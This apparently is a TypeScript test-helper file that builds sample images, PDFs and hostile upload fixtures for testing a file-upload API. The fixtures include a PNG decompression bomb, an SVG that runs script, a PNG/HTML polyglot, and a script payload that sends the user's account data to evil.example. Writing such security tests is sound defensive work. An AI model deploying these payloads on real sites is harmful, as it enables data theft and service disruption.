import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import request from 'supertest';
import type { FilePurpose, FileView } from '@mutuals/contracts';
import type { TestMember } from './factories';
import type { TestApp } from './test-app';
import { minimalPdf } from '../../apps/api/src/seed/minimal-pdf';

/** A real photo-like JPEG of the given size, optionally carrying GPS coordinates in its EXIF. */
export async function jpeg(width = 640, height = 480, options: { gps?: boolean } = {}): Promise<Buffer> {
  const image = sharp({ create: { width, height, channels: 3, background: { r: 40, g: 120, b: 180 } } })
    .composite([{ input: Buffer.from(`<svg width="${width}" height="${height}"><circle cx="${width / 2}" cy="${height / 2}" r="${Math.min(width, height) / 3}" fill="#f5b942"/></svg>`) }])
    .jpeg({ quality: 80 });
  if (options.gps) {
    image.withExif({
      IFD0: { Make: 'PhoneCo', Model: 'Camera 12', Copyright: 'Jo Bloggs' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '53/1 28/1 1234/100', GPSLongitudeRef: 'W', GPSLongitude: '2/1 14/1 3456/100' },
    });
  }
  return image.toBuffer();
}

export const png = (width = 300, height = 200): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 4, background: { r: 200, g: 60, b: 90, alpha: 1 } } }).png().toBuffer();

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A decompression bomb: a few hundred bytes claiming 50 000 x 50 000 pixels (7.5 GB decoded).
 * Its IDAT holds one compressed row; the header alone must get it refused.
 */
export function pngBomb(side = 50_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(side * 3 + 1))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const SCRIPT_PAYLOAD = '<html><body><script>fetch("/api/v1/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>';

/** A valid PNG with an HTML page after its end: a polyglot a sniffing browser could run. */
export async function pngHtmlPolyglot(): Promise<Buffer> {
  return Buffer.concat([await png(120, 80), Buffer.from(SCRIPT_PAYLOAD)]);
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
);

/** The first bytes of a Windows executable. */
export const EXECUTABLE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.from('This program cannot be run in DOS mode.')]);

/** A minimal, valid one-page PDF (the demo data's own). */
export const pdf = (text = 'Options appraisal checklist'): Buffer => minimalPdf(text);

export function upload(t: TestApp, member: TestMember, purpose: FilePurpose, bytes: Buffer, filename: string, contentType = 'application/octet-stream') {
  return request(t.url).post('/api/v1/files').query({ purpose }).set(member.auth).attach('file', bytes, { filename, contentType });
}

export async function uploaded(t: TestApp, member: TestMember, purpose: FilePurpose, bytes: Buffer, filename: string): Promise<FileView> {
  const response = await upload(t, member, purpose, bytes, filename);
  if (response.status !== 201) throw new Error(`upload answered ${response.status}: ${JSON.stringify(response.body)}`);
  return response.body;
}

/** GET a file URL as a member, with the body as bytes. */
export function fetchFile(t: TestApp, member: TestMember | null, url: string, headers: Record<string, string> = {}) {
  const call = request(t.url).get(url).set(headers).buffer(true).parse((res, done) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  });
  return member ? call.set(member.auth) : call;
}
